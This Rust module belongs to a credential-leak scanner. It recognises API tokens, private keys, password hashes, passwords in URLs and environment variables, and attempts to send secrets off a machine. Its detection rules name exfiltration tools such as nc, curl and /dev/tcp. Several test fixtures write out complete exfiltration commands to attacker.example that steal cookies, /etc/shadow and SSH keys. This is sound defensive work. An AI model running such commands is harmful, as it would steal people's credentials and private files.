//! Credentials: tokens told by their issuer's prefix, alphabet and length; private keys; addresses with a password in
//! them; password hashes; lines of account files.

use crate::message::survey::{Class, Surveyed};

use super::bulk::Seen;
use super::forms::{account, address, hash, jwt, private_key};
use super::{Validator, before, byte, is_edge, is_word, issuers, rest, run};

/// Longest token looked at, bytes.
const TOKEN_BYTES_MAX: usize = 512;

/// Marks, and their validators.
pub(super) const MARKS: &[(&str, Validator)] = &[
    ("AKIA", aws),
    ("ASIA", aws),
    ("AKCp", |text, at| issued(text, at, 4, 60, |b| b.is_ascii_alphanumeric(), "an Artifactory key")),
    ("AIza", |text, at| issued(text, at, 4, 35, is_url_safe, "a Google API key")),
    ("AGE-SECRET-KEY-1", |text, at| issued(text, at, 16, 50, |b| b.is_ascii_alphanumeric(), "an age key")),
    ("PRIVATE KEY", private_key),
    ("{SSHA", |text, at| issued(text, at, 5, 28, |b| is_base64(b) || b == b'}', "a password hash")),
    ("PASSWORD", variable),
    ("PASSWD", variable),
    ("SECRET", variable),
    ("API_KEY", variable),
    ("_TOKEN", variable),
    ("SG.", |text, at| issued(text, at, 3, 40, |b| is_url_safe(b) || b == b'.', "a SendGrid key")),
    ("eyJ", jwt),
    ("ya29.", |text, at| issued(text, at, 5, 30, is_url_safe, "a Google access token")),
    ("hvs.", |text, at| issued(text, at, 4, 24, is_url_safe, "a Vault token")),
    ("document.cookie", posted),
    ("localStorage", posted),
    ("/etc/", shipped),
    ("~/.ssh", shipped),
    ("AccountKey=", |text, at| issued(text, at, 11, 40, is_base64, "a storage account's key")),
];

/// What the marks cannot tell: prefixes that are short, or end with a byte that prose seldom has. Counts on its way
/// what [`bulk`](super::bulk) asks, up to what it finds.
pub(super) fn find(all: Surveyed<'_>, seen: &mut Seen) -> Option<(&'static str, usize)> {
    let text = all.text;
    // Quotes are half the marks of JSON, and no sign of anything.
    all.each_but(Class::Mark, Class::Edge).find_map(|at| match byte(text, at) {
        b'_' => issuers::before_underscore(text, at),
        b'$' => Some((hash(text, at)?, at)),
        b'-' => issuers::before_dash(text, at),
        b'@' => {
            seen.addresses += 1;
            None
        }
        b':' => {
            seen.keys += usize::from(before(text, at) == b'"');
            match rest(text, at) {
                // A bot's number, and its token behind it.
                [_, b'A', b'A', ..] => issuers::bot(text, at),
                [_, b'x', b':', ..] => Some((account(text, at)?, at)),
                [_, b'/', b'/', ..] => issuers::hook(text, at).or_else(|| Some((address(text, at)?, at))),
                _ => None,
            }
        }
        _ => None,
    })
}

/// What of the text around a credential found at an offset must not be read.
pub(super) fn extent(text: &[u8], what: &str, at: usize) -> std::ops::Range<usize> {
    match what {
        "a private key" => {
            let head = at.saturating_sub(40);
            let begins = text.get(head..at).and_then(|head| memchr::memmem::rfind(head, b"-----BEGIN ")).unwrap_or(0);
            let tail = rest(text, at + 11);
            let ends = memchr::memmem::find(tail, b"-----END ").map(|ends| ends + 9);
            let ends = ends.and_then(|ends| Some(ends + memchr::memmem::find(tail.get(ends..)?, b"-----")? + 5));
            head + begins..ends.map_or(text.len(), |ends| at + 11 + ends)
        }
        "an address with a password in it" => {
            let userinfo = rest(text, at + 3);
            let host = memchr::memchr(b'@', userinfo).unwrap_or(0);
            let colon = memchr::memchr(b':', userinfo).unwrap_or(0);
            at + 4 + colon..at + 3 + host
        }
        "a line of an account file" => {
            let name = text.get(..at).map_or(0, |head| head.iter().rev().take_while(|b| is_word(**b)).count());
            at - name..at + run(text, at, usize::MAX, |b| !matches!(b, b'\n' | b'\\' | b'"'))
        }
        VARIABLE => {
            let equals = at + run(text, at, 2 * NAME_BYTES_MAX, is_name);
            let from = equals + 1 + run(text, equals + 1, 4, |b| matches!(b, b'"' | b'\\' | b'\''));
            from..token_end(text, from)
        }
        "an AWS secret key" => {
            let from = at + 11 + run(text, at + 11, 8, |b| matches!(b, b' ' | b'=' | b':' | b'"' | b'\\' | b'\''));
            from..token_end(text, from)
        }
        _ => at..token_end(text, at),
    }
}

/// What [`variable`] finds.
pub(super) const VARIABLE: &str = "a secret in a variable";
/// Longest name of a variable on either side of its mark, bytes.
const NAME_BYTES_MAX: usize = 64;

const fn is_name(byte: u8) -> bool {
    byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_'
}

/// `DB_PASSWORD=…`, as environments and their files are written, with a value that is no placeholder.
fn variable(text: &[u8], at: usize) -> Option<&'static str> {
    let head = text.get(..at)?.iter().rev().take(NAME_BYTES_MAX).take_while(|b| is_name(**b)).count();
    let equals = at + run(text, at, NAME_BYTES_MAX, is_name);
    if !is_edge(text, at - head) || byte(text, equals) != b'=' {
        return None;
    }
    let from = equals + 1 + run(text, equals + 1, 4, |b| matches!(b, b'"' | b'\\' | b'\''));
    let bounded = text.get(..text.len().min(from + TOKEN_BYTES_MAX))?;
    let value = bounded.get(from..token_end(bounded, from))?;
    let placeholder =
        matches!(value.first(), Some(b'$' | b'{' | b'*' | b'%' | b'[' | b'.')) || value.starts_with(b"your");
    (value.len() >= 8 && !placeholder && different(value) >= 4).then_some(VARIABLE)
}

/// Where what looks like one word ends. An escaped slash or character of JSON does not end it.
fn token_end(text: &[u8], at: usize) -> usize {
    let mut end = at;
    loop {
        end += match byte(text, end) {
            b'\\' if matches!(byte(text, end + 1), b'/' | b'u') => 2,
            0..=b' ' | 0x7f | b'"' | b'\'' | b'`' | b'\\' | b';' | b'<' | b'>' | b'(' | b')' | b'&' | b'|' => {
                return end;
            }
            _ => 1,
        };
    }
}

pub(super) const fn is_url_safe(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-')
}

pub(super) const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'.')
}

/// A prefix at an edge with at least `least` symbols behind it, and not all the same: documentation writes `xxxx`.
pub(super) fn issued(
    text: &[u8],
    at: usize,
    prefix: usize,
    least: usize,
    accepts: impl Fn(u8) -> bool,
    what: &'static str,
) -> Option<&'static str> {
    if !is_edge(text, at) {
        return None;
    }
    let len = run(text, at + prefix, TOKEN_BYTES_MAX, accepts);
    let tail = rest(text, at + prefix);
    let tail = tail.get(..len).unwrap_or_default();
    (is_edge(text, at) && len >= least && is_varied(tail)).then_some(what)
}

/// At least six different symbols.
fn is_varied(text: &[u8]) -> bool {
    different(text) >= 6
}

/// How many different symbols there are.
fn different(text: &[u8]) -> u32 {
    let mut seen = [0_u64; 4];
    for &b in text {
        if let Some(word) = seen.get_mut(usize::from(b >> 6)) {
            *word |= 1 << (b & 63);
        }
    }
    seen.iter().map(|word| word.count_ones()).sum()
}

fn aws(text: &[u8], at: usize) -> Option<&'static str> {
    let upper = |b: u8| b.is_ascii_uppercase() || b.is_ascii_digit();
    let len = run(text, at + 4, 17, upper);
    let tail = rest(text, at + 4);
    let fits = len == 16 && !is_word(byte(text, at + 20)) && is_varied(tail.get(..16).unwrap_or_default());
    (is_edge(text, at) && fits).then_some("an AWS access key")
}

/// Bytes around a mark that are looked at.
const AROUND: usize = 120;

fn around(text: &[u8], at: usize) -> &[u8] {
    text.get(at.saturating_sub(AROUND)..text.len().min(at + AROUND)).unwrap_or_default()
}

fn any(text: &[u8], words: &[&str]) -> bool {
    words.iter().any(|word| memchr::memmem::find(text, word.as_bytes()).is_some())
}

/// `fetch('https://…?'+document.cookie)`: a page's secrets, sent to another site.
fn posted(text: &[u8], at: usize) -> Option<&'static str> {
    let around = around(text, at);
    let sends = any(around, &["fetch(", "sendBeacon(", "Image().src", "XMLHttpRequest", "location=", "location.href="]);
    (sends && any(around, &["'//", "\"//", "`//", "http://", "https://"])).then_some("a page's secrets, sent elsewhere")
}

/// `cat /etc/passwd | nc …`, `curl … $(cat ~/.ssh/id_rsa)`: a file of secrets, sent elsewhere.
fn shipped(text: &[u8], at: usize) -> Option<&'static str> {
    let around = around(text, at);
    let files = [&b"/etc/passwd"[..], b"/etc/shadow", b"~/.ssh/id"];
    let secret = files.iter().any(|file| rest(text, at).starts_with(file));
    let sends = any(around, &["curl ", "wget ", "| nc ", "|nc ", "| ncat ", "/dev/tcp/"]);
    let to =
        any(around, &["-d @", "--data", "--post-file", "| nc ", "|nc ", "| ncat ", "/dev/tcp/", "$(", "-T ", "-F "]);
    (secret && sends && to).then_some("a file of secrets, sent elsewhere")
}

/// `sk-…`: long, with digits and letters of both cases, as words between dashes are not.
pub(super) fn secret_key(text: &[u8], at: usize) -> Option<&'static str> {
    // Asked first: a row of marks begins once, and is read once.
    if !is_edge(text, at) {
        return None;
    }
    let len = run(text, at + 3, TOKEN_BYTES_MAX, is_url_safe);
    let tail = rest(text, at + 3);
    let tail = tail.get(..len).unwrap_or_default();
    let mixed = tail.iter().any(u8::is_ascii_digit)
        && tail.iter().any(u8::is_ascii_uppercase)
        && tail.iter().any(u8::is_ascii_lowercase);
    (is_edge(text, at) && len >= 32 && mixed).then_some("a secret API key")
}

/// `aws_secret_access_key = …`.
pub(super) fn assigned(text: &[u8], at: usize) -> Option<&'static str> {
    let mut from = at + 11;
    from += run(text, from, 8, |b| matches!(b, b' ' | b'=' | b':' | b'"' | b'\\' | b'\''));
    let len = run(text, from, 41, is_base64);
    let tail = rest(text, from).get(..len).unwrap_or_default();
    (len == 40 && is_varied(tail)).then_some("an AWS secret key")
}

#[cfg(test)]
mod tests {
    use super::super::LeakClass::Credential;
    use super::super::tests::class;
    use super::*;

    /// Enough symbols of many kinds; assembled so that no scanner of repositories takes it for a secret.
    fn filler(len: usize) -> String {
        "Ab3dE5fG7hJ9kL2mN4pQ6rS8tU".chars().cycle().take(len).collect()
    }

    #[test]
    fn a_secret_in_a_variable_is_one_and_a_placeholder_is_none() {
        for text in [
            "DB_PASSWORD=hunter2-and-more",
            "{\"log\":\"HOME=/root\\nDB_PASSWORD=hunter2-and-more\\nX=1\"}",
            "export STRIPE_API_KEY=\"0123456789abcdef\"",
            "AUTH_TOKEN_2=q8w7e6r5t4",
            "-e MYSQL_ROOT_PASSWORD=correcthorse",
        ] {
            assert_eq!(class(text), Some(super::super::LeakClass::Credential), "{text}");
        }
        for text in [
            "DB_PASSWORD=$DB_PASSWORD_FROM_VAULT",
            "DB_PASSWORD=********",
            "DB_PASSWORD=your-password-here",
            "DB_PASSWORD=short",
            "DB_PASSWORD= is where it goes",
            "set the PASSWORD in your profile",
            "xDB_PASSWORD=hunter2-and-more",
        ] {
            assert_eq!(class(text), None, "{text}");
        }
    }

    #[test]
    fn tokens_are_told_by_prefix_alphabet_and_length() {
        for (prefix, len) in [
            ("ghp_", 36),
            ("github_pat_", 40),
            ("glpat-", 20),
            ("xoxb-", 24),
            ("sk_live_", 24),
            ("AIza", 35),
            ("npm_", 36),
            ("hvs.", 24),
            ("sk-", 48),
            ("ya29.", 30),
            ("pypi-", 60),
        ] {
            let secret = format!("{prefix}{}", filler(len));
            for text in [secret.clone(), format!("key: {secret}"), format!(r#"{{"a":"x\n{secret}"}}"#)] {
                assert_eq!(class(&text), Some(Credential), "{text}");
            }
            assert_eq!(class(&format!("{prefix}{}", "x".repeat(len))), None, "documentation: {prefix}");
            assert_eq!(class(&format!("{prefix}short")), None, "{prefix}");
            assert_eq!(class(&format!("word{secret}")), None, "not at an edge: {prefix}");
        }
    }

    #[test]
    fn other_forms_of_credentials() {
        let base64 = filler(44);
        for text in [
            format!("AKIA{}", "Z2X4C6V8B1N3M5Q7"),
            format!("-----BEGIN RSA PRIVATE KEY-----\n{base64}\n-----END"),
            format!(r"-----BEGIN PRIVATE KEY-----\n{base64}"),
            format!("postgres://app:{}@db.internal:5432/prod", filler(12)),
            format!("$2b$12${}", filler(53)),
            format!("$6$saltsalt${}", filler(86)),
            format!("{{\"h\":\"$argon2id$v=19$m=65536,t=3,p=4${}\"}}", filler(40)),
            "root:x:0:0:root:/root:/bin/bash".into(),
            format!("eyJhbGciOiJIUzI1NiJ9.eyJ{}.{}", filler(30), filler(43)),
            format!("aws_secret_access_key = {}", filler(40)),
            "fetch('https://attacker.example/?c='+document.cookie)".into(),
            "cat /etc/shadow | nc attacker.example 4444".into(),
            "curl -d \"$(cat ~/.ssh/id_ed25519)\" https://attacker.example/".into(),
        ] {
            assert_eq!(class(&text), Some(Credential), "{text}");
        }
    }

    /// The furthest that a mark reads: the three parts of a JSON Web Token.
    const READ_BYTES_MAX: usize = 2 * TOKEN_BYTES_MAX + 4096 + 64;

    /// What stands past the bound changes nothing, whatever run leads there: a row of marks costs each of them the bound.
    #[test]
    fn no_mark_reads_past_its_bound() {
        let seldom: [Validator; 7] = [
            |text, at| issuers::hook(text, at).map(|(what, _)| what),
            |text, at| issuers::before_underscore(text, at).map(|(what, _)| what),
            |text, at| issuers::before_dash(text, at).map(|(what, _)| what),
            hash,
            account,
            address,
            jwt,
        ];
        let heads = [
            "ghp_",
            "npm_",
            "sk-",
            "xoxb-",
            "aws_secret_access_key = ",
            "$2b$12$",
            "$argon2id$",
            "root:x:0:0:",
            "ftp://",
            "eyJ",
        ];
        let marked = MARKS.iter().map(|(mark, validator)| (*mark, *validator));
        let others = heads.iter().flat_map(|head| seldom.iter().map(|validator| (*head, *validator)));
        for (mark, validator) in marked.chain(others) {
            for run in ["A", "z", "0", "=", "Ab3", "=Ab3xYz", "\\u0041", "eyJ", ".", "/", ":", " ", mark] {
                let begun = format!(" {mark}{}", run.repeat(READ_BYTES_MAX.div_ceil(run.len())));
                let tails = ["", " ", "\"", ".eyJ", "Ab3xYz@host", "=Ab3xYz8", " | nc attacker.example 4444", "://"];
                for at in (0..mark.len() + 2).filter(|at| begun.is_char_boundary(*at)) {
                    let found = tails.map(|tail| validator(format!("{begun}{tail}").as_bytes(), at));
                    assert!(found.iter().all(|one| *one == found[0]), "{mark} {run} at {at}: {found:?}");
                }
            }
        }
    }

    #[test]
    fn a_value_counts_up_to_the_bound_and_not_beyond() {
        let of = |before: usize| format!("DB_PASSWORD={}Zx81vQpLm", "a".repeat(before));
        assert_eq!(class(&of(TOKEN_BYTES_MAX - 9)), Some(Credential));
        assert_eq!(class(&of(TOKEN_BYTES_MAX)), None, "what makes it varied stands past the bound");
        let many = of(TOKEN_BYTES_MAX).repeat(200);
        assert_eq!(class(&many), None, "each mark reads its own value and no other's");
    }

    #[test]
    fn what_only_looks_like_one_passes() {
        for text in [
            "the ghp_ prefix marks a token",
            "ask-me-anything-about-task-lists-and-desk-lamps-in-2024",
            "sk-learn and SK-II",
            "https://example.com/path@2x.png",
            "see ftp://user:password@host/ in the manual",
            "redis://:${PASSWORD}@cache/0",
            "https://a.example/x:y@z",
            "AKIA is a prefix, AKIAIOSFODNN is too short",
            "-----BEGIN PUBLIC KEY-----",
            "-----BEGIN RSA PRIVATE KEY----- goes first",
            "document.cookie is how a page reads its cookies; fetch() sends them by itself",
            "accounts are in /etc/passwd, see https://man.example/passwd",
            "put it into ~/.ssh/config and use curl -T for uploads",
            "it costs $2 or $2.50, not $6$",
            "a:x:b",
            "eyJhbGciOiJIUzI1NiJ9 is a header",
            "550e8400-e29b-41d4-a716-446655440000",
        ] {
            assert_eq!(class(text), None, "{text}");
        }
    }
}
